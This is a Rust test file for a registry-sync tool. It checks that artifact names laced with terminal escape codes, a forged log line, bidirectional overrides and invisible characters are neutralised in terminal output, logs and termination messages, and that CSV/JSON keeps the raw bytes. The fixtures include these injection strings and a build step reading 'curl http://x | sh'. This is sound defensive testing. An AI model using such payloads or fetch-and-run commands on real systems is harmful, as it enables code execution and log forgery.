//! Hostile names in the output to a terminal, a log, or a pod's status.

use serde_json::{Value, json};
use swr_emulator::{ArtifactSpec, Emulator, EmulatorSettings, ManifestKind, World};
use swr_sync::report::REPORTS;
use swr_sync::visible::is_hidden;

use crate::support::assert_contains;
use crate::support::database::TestDatabase;
use crate::support::mirror::start_of_time;
use crate::support::program::{Finished, Program, emulator_settings};

/// Sets the title, clears the screen, colours the text (C1), forges a line of the log, starts another
/// paragraph, changes the text direction, and contains invisible characters.
const HOSTILE: &str =
    "\u{1b}]0;owned\u{7}\u{1b}[2J\u{9b}31m\nERROR forged\r\u{2028}\u{202e}\u{2066}\u{feff}\u{7f}";

fn hostile(name: &str) -> String {
    format!("{name}{HOSTILE}")
}

/// More artifacts than one run may remove, all with hostile names; the first history is refused with
/// a hostile message.
fn world() -> World {
    let mut world = World::empty(start_of_time());
    world.add_namespace(&hostile("team"));
    let repository = world.add_repository(&hostile("team"), &hostile("app"));
    let step = json!({"created_by": hostile("RUN curl http://x | sh #")});
    for number in 0..150 {
        let spec = ArtifactSpec {
            kind: ManifestKind::default(),
            tags: vec![hostile(&format!("v{number}"))],
            history: Some(json!({"build_histories": [step], "total": 1})),
            ..ArtifactSpec::default()
        };
        world.add_artifact(repository, spec).unwrap();
    }
    let refused = world.artifacts().next().unwrap().digest().to_string();
    let body = json!({"error_code": hostile("SVC"), "error_msg": hostile("no")});
    world.override_build_history(&refused, 403, body);
    world
}

#[track_caller]
fn assert_harmless(what: &str, text: &str) {
    for line in text.lines() {
        assert!(!line.contains(is_hidden), "{what}: {line:?}");
        assert!(!line.starts_with("ERROR forged"), "{what}: {line:?}");
    }
}

#[track_caller]
fn assert_shown(what: &str, text: &str) {
    assert_harmless(what, text);
    let shown = r"app\u{1b}]0;owned\u{7}\u{1b}[2J\u{9b}31m\u{a}ERROR forged\u{d}\u{2028}\u{202e}\u{2066}\u{feff}\u{7f}";
    assert!(text.contains(shown), "{what}: {text}");
}

async fn run(arguments: &[&str], emulator: &Emulator, database: &TestDatabase) -> Finished {
    let program = Program::new(arguments);
    let finished = program.registry(emulator).database(database).run().await;
    assert_harmless(&arguments.join(" "), &finished.stderr);
    finished
}

#[tokio::test]
async fn no_name_moves_the_cursor_forges_a_line_or_hides_in_what_people_read() {
    let settings = EmulatorSettings {
        instance_name: hostile("instance"),
        ..emulator_settings()
    };
    let emulator = Emulator::start(settings, world()).await.unwrap();
    let database = TestDatabase::create().await;
    let folder = tempfile::tempdir().unwrap();
    let termination = folder.path().join("termination");
    let summary = folder.path().join("summary");
    std::fs::write(&termination, "").unwrap();
    let sync = || {
        Program::sync(&emulator, &database)
            .env("SWR_SYNC_TERMINATION_MESSAGE_FILE", &termination)
            .env("SWR_SYNC_SUMMARY_FILE", &summary)
    };
    let said = |path| std::fs::read_to_string(path).unwrap();

    let partial = sync().env("SWR_SYNC_LOG", "trace").code(3).await;
    assert_shown("the summary", &partial.stderr);
    assert_harmless("the termination message", &said(&termination));

    for report in REPORTS {
        let finished = run(&["report", report.name], &emulator, &database).await;
        assert_harmless(report.name, &finished.stdout);
    }
    for command in [
        &["status"][..],
        &["status", "--max-age", "1ms"],
        &["query", "select name from swr.repository"],
        &["query", "select * from swr.tag"],
        &["query", "select 1 as \"a\u{1b}[2J\u{202e}\""],
        &["verify"],
        &["doctor"],
        &["config", "check"],
        &["report", &hostile("none")],
    ] {
        let finished = run(command, &emulator, &database).await;
        assert_harmless(&command.join(" "), &finished.stdout);
    }

    emulator.with_world(|world| {
        let ids: Vec<i64> = world.artifacts().map(|artifact| artifact.id).collect();
        for id in ids.into_iter().skip(10) {
            world.delete_artifact(id);
        }
    });
    let refused = sync().code(6).await;
    assert_shown("the refusal", &refused.stderr);
    assert_shown("the termination message", &said(&termination));
    assert_harmless("the summary file", &said(&summary));
    for line in said(&summary).lines() {
        serde_json::from_str::<Value>(line).unwrap();
    }

    let logged = sync().args(&["--log-format", "json"]).code(6).await;
    assert_harmless("the JSON log", &logged.stderr);
    let lines: Vec<Value> = logged
        .stderr
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    let message = lines.last().unwrap()["message"].as_str().unwrap();
    assert_contains(&message, hostile("app"));
}

#[tokio::test]
async fn data_for_programs_keeps_its_bytes() {
    let emulator = Emulator::start(emulator_settings(), world()).await.unwrap();
    let database = TestDatabase::create().await;
    Program::sync(&emulator, &database).code(3).await;
    let sql = "select name from swr.repository";
    let csv = run(&["query", "--format", "csv", sql], &emulator, &database).await;
    assert!(csv.stdout.contains(&hostile("app")), "{:?}", csv.stdout);
    let json = run(&["query", "--format", "json", sql], &emulator, &database).await;
    let rows: Value = serde_json::from_str(&json.stdout).unwrap();
    assert_eq!(rows[0]["name"], hostile("app"));
}
